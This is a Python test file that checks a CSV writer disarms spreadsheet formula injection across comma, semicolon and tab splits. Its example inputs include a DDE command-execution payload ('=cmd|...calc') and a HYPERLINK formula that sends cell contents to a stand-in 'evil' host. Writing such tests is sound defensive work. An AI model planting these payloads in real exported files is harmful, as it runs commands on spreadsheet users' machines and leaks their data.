"""No cell of a CSV file begins like a formula, whatever text it comes from and wherever a spreadsheet splits it, and every other text is unchanged."""

import csv
import io
import itertools

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tollway.csv_text import DISARM_MARK, FORMULA_STARTS, csv_cells, csv_line

RUN_BY_SPREADSHEETS = ("=", "+", "-", "@", "\t", "\r")
"""Of docs/accountants and of OWASP's page on CSV injection, written here again: the table of the code must not shrink with its test."""

DELIMITERS = (",", ";", "\t")
"""Excel splits a file at the list separator of the system: `;` in most of Europe. A tab is what a paste and an import dialog split at."""

parts = st.one_of(
    st.text(max_size=4),
    st.sampled_from([*FORMULA_STARTS, '"', '""', "'", ",", ";", "\t", "\r", "\n", "\r\n", " ", "1", "a"]),
)
texts = st.lists(parts, max_size=8).map("".join).filter(lambda text: "\0" not in text)
"""Text of every kind, most of it made of what a reader of CSV splits at and what begins a formula."""
NUMBERS = ("0", "12", "0.010000", "-0.5", "2026-11-21T09:15:00.007Z")


def split(text: str, delimiter: str) -> list[str]:
    """The cells of a file, as a spreadsheet with this delimiter reads them."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@settings(max_examples=2_000)
@given(st.lists(st.one_of(texts, st.sampled_from(NUMBERS)), min_size=1, max_size=6))
@example(["x", "k;=cmd|'/C calc'!A0;z"])
@example(["x", "/a;=1+1;b"])
@example(["x", 'Weather;=HYPERLINK("http://evil/?"&A1);x'])
@example(["x", 'a;"=1', "y"])
@example(["x", "a\n=1", "y"])
@example(["a\t=1", "y"])
@example(["a\r\n=1", 'b,";\t@', "-1"])
def test_no_cell_begins_like_a_formula_wherever_a_spreadsheet_splits(values: list[str]) -> None:
    line = csv_line(values)
    for delimiter in DELIMITERS:
        found = [cell for cell in split(line, delimiter) if cell.startswith(RUN_BY_SPREADSHEETS)]
        assert not found, (delimiter, line)


STARTS = (*RUN_BY_SPREADSHEETS, "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = ("", ";", "\t", '"', ",", "a;", "a\t", 'a;"', "a\n", ";;", "\t;")


def test_every_formula_start_behind_every_split_is_disarmed() -> None:
    armed = [
        (delimiter, line)
        for delimiter, start, before in itertools.product(DELIMITERS, STARTS, BEFORE)
        for line in [csv_line(["first", f"{before}{start}1+1", "last"])]
        for cell in split(line, delimiter)
        if cell.startswith(start)
    ]
    assert armed == []


@given(texts)
def test_a_cell_without_its_marks_is_its_text(text: str) -> None:
    """The mark is an addition: nothing else of a text changes, and a text without a formula has none."""
    (cell,) = csv_cells([text])
    assert [char for char in cell if char != DISARM_MARK] == [char for char in text if char != DISARM_MARK]
    assert len(cell) >= len(text)


HONEST = (
    *("Weather", "a;b", "a-b", "a; -1", "1+1", "a@b.example", "/v1/cities/berlin?x=1;y=2", 'say "x"'),
    *("order-1", "a\r\nb", "tab\there", "", "0x00", "Preis: 5\u2212", "it's"),
)


@pytest.mark.parametrize("text", HONEST)
def test_an_honest_text_comes_back_as_it_is(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_line([text, "end"]), newline=""))
    assert row == [text, "end"]


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"])), min_size=2, max_size=8))
def test_a_line_has_the_cells_back_when_it_is_read(values: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(csv_line(values), newline=""))
    assert row == csv_cells(values)


@pytest.mark.parametrize("start", RUN_BY_SPREADSHEETS)
def test_a_cell_with_a_formula_is_disarmed_within_its_quotes(start: str) -> None:
    """A spreadsheet removes the quotes of CSV first, so the mark must stand behind them."""
    assert csv_line([start + 'cmd|" /C calc",1', "plain"]).startswith('"' + DISARM_MARK)


def test_none_is_empty_and_numbers_are_their_digits() -> None:
    assert csv_line([None, 12, "0.010000", "", "a,b", 'say "x"']) == ',12,0.010000,,"a,b","say ""x"""\r\n'
    assert csv_cells([-1]) == ["'-1"]
